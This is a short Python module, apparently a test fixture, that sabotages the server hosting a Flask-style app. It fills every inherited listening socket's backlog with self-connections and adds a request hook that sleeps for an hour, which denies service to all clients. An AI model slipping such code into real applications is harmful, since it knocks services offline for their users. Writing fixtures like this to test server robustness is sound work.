"""Connects to itself until nobody else can."""

import socket

from right import app

kept = []
for fd in range(3, 65):
    try:
        known = socket.socket(fileno=fd)
    except OSError:
        continue
    if known.family == socket.AF_INET:
        known.listen(0)
        for _ in range(50):
            made = socket.socket()
            made.setblocking(False)
            made.connect_ex(known.getsockname())
            kept.append(made)
    known.detach()


@app.before_request
def never():
    import time

    time.sleep(3600)
